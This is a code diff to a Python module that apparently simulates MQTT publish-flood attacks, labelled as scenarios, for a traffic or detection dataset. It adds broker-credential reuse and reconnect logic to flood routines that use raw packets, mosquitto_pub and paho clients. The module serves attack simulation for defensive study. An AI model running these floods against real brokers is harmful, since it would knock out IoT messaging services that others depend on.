@@ -1,4 +1,5 @@
 """More messages than the broker can take."""
+from ..benign import accounts, servers
 from . import mqtt_packets as mqtt, scenario, talk
 
 PORT = 1883
@@ -15,11 +16,30 @@ def topic(dice):
     return "/".join(talk.words(dice, dice.randint(1, 5)))
 
 
+def stolen(plan):
+    """User and password for the broker, where it wants them."""
+    if not servers.broker_needs_password(plan):
+        return {}
+    return dict(zip(("user", "password"), accounts.account(plan, "broker")))
+
+
 def open_session(connection, dice, version=4, **options):
     """CONNECT, and the wait for CONNACK."""
-    connection.sendall(mqtt.connect(client_id(dice), dice.choice((10, 30, 60, 60, 120, 600)), version, **options))
+    connection.sendall(mqtt.connect(client_id(dice), dice.choice((10, 30, 60, 60, 120, 600)), version,
+                                    **options))
     if not connection.recv(256):
         raise ConnectionError("the broker hung up")
+
+
+def speaking(scene, source, broker, dice, beats, speak, **options):
+    """Has `speak(connection)` use up the beats over a session, and over another where that one breaks."""
+    for _ in beats:
+        try:
+            with talk.conversation(source, broker.address, PORT, dice) as connection:
+                open_session(connection, dice, **options, **stolen(scene.plan))
+                speak(connection)
+        except OSError:
+            scene.wait(dice.uniform(0.1, 0.5))
 
 
 def publish_flood(scene, host, sources, rate):
@@ -32,17 +52,18 @@ def publish_flood(scene, host, sources, rate):
 
     def work(source, dice):
         where, blob = topic(dice), dice.randbytes(size * 2)
-        with talk.conversation(source, broker.address, PORT, dice) as connection:
-            open_session(connection, dice, version)
-            for number, _ in enumerate(talk.beats(scene, dice, rate)):
+        beats = talk.beats(scene, dice, rate)
+
+        def speak(connection):
+            for number, _ in enumerate(beats):
                 identifier, start = number % 65535 + 1, dice.randrange(size)
                 message = blob[start:start + dice.randint(size // 2 + 1, size)]
                 connection.sendall(mqtt.publish(where, message, qos, identifier, retain, version))
                 if qos == 2:
                     connection.sendall(mqtt.release(identifier))
                 talk.drain(connection)
-            if dice.random() < 0.5:
-                connection.sendall(mqtt.packet(mqtt.DISCONNECT))
+            connection.sendall(mqtt.packet(mqtt.DISCONNECT))
+        speaking(scene, source, broker, dice, beats, speak, version=version)
     with talk.blamed(scene, sources, broker.address, PORT):
         talk.crew(scene, host, sources, work)
 
@@ -51,41 +72,47 @@ def publish_flood(scene, host, sources, rate):
 def one_source(scene):
     attacker = scene.outsider()
     sources = [attacker.address] * scene.dice.randint(1, 4)
-    publish_flood(scene, attacker, sources, scene.dice.randint(300, 1200))
+    publish_flood(scene, attacker, sources, scene.dice.randint(250, 1000))
 
 
 @scenario("mqtt-publish-flood-inside", "MQTT_FLOOD", "the same from within the ward")
 def within(scene):
     attacker = scene.insider()
     sources = [attacker.address] * scene.dice.randint(1, 4)
-    publish_flood(scene, attacker, sources, scene.dice.randint(300, 1200))
+    publish_flood(scene, attacker, sources, scene.dice.randint(250, 1000))
 
 
 @scenario("mqtt-publish-botnet", "MQTT_FLOOD", "the same from several machines outside")
 def botnet(scene):
-    publish_flood(scene, scene.plan["botnet"], scene.bots(scene.dice.randint(4, 9)), scene.dice.randint(500, 1200))
+    publish_flood(scene, scene.plan["botnet"], scene.bots(scene.dice.randint(4, 9)),
+                  scene.dice.randint(300, 900))
 
 
 @scenario("mqtt-mosquitto-pub", "MQTT_FLOOD", "mosquitto_pub: one line after another", ["mosquitto_pub"])
 def mosquitto_pub(scene):
-    attacker, broker, dice = scene.dice.choice((scene.outsider, scene.insider))(), scene.host("broker"), scene.dice
-    lines = dice.randint(1200, 4000)
-    text = "".join("x" * dice.randint(1, 300) + "\n" for _ in range(lines))
+    attacker, broker, dice = talk.either(scene), scene.host("broker"), scene.dice
+    text = "".join("x" * dice.randint(1, 300) + "\n" for _ in range(dice.randint(200, 1200)))
+    again = ["-m", text[:dice.randint(2, 300)].split()[0], "--repeat", 10_000, "--repeat-delay",
+             dice.uniform(0.0005, 0.003)]
     options = ["-h", broker.address, "-p", PORT, "-t", topic(dice), "-q", dice.choice((0, 1, 1, 2))]
+    options += [word for pair in zip(("-u", "-P"), stolen(scene.plan).values()) for word in pair]
     options += ["-V", dice.choice(("mqttv31", "mqttv311", "5"))] + ["-i", client_id(dice)] * dice.randrange(2)
     with talk.blamed(scene, [attacker.address], broker.address, PORT):
-        scene.run(attacker, "mosquitto_pub", *options, "-l", text=text, seconds=scene.seconds + 2)
+        scene.run(attacker, "mosquitto_pub", *options, *dice.choice((["-l"], again)), text=text)
 
 
 @scenario("mqtt-paho-flood", "MQTT_FLOOD", "python3-paho-mqtt: clients that publish as fast as they may")
 def paho(scene):
     from paho.mqtt import client
     attacker, broker = scene.outsider(), scene.host("broker")
-    qos, size, rate = scene.dice.randrange(3), int(2 ** scene.dice.uniform(2, 11)), scene.dice.randint(150, 500)
+    qos, rate = scene.dice.randrange(3), scene.dice.randint(150, 500)
+    size = int(2 ** scene.dice.uniform(2, 11))
 
     def work(source, dice):
         one = client.Client(client_id(dice) + "p", protocol=dice.choice((client.MQTTv31, client.MQTTv311)))
         one.max_inflight_messages_set(dice.choice((20, 100, 1000)))
+        if known := stolen(scene.plan):
+            one.username_pw_set(known["user"], known["password"])
         one.connect(broker.address, PORT, dice.choice((15, 60, 300)), bind_address=source)
         one.loop_start()
         where = topic(dice)
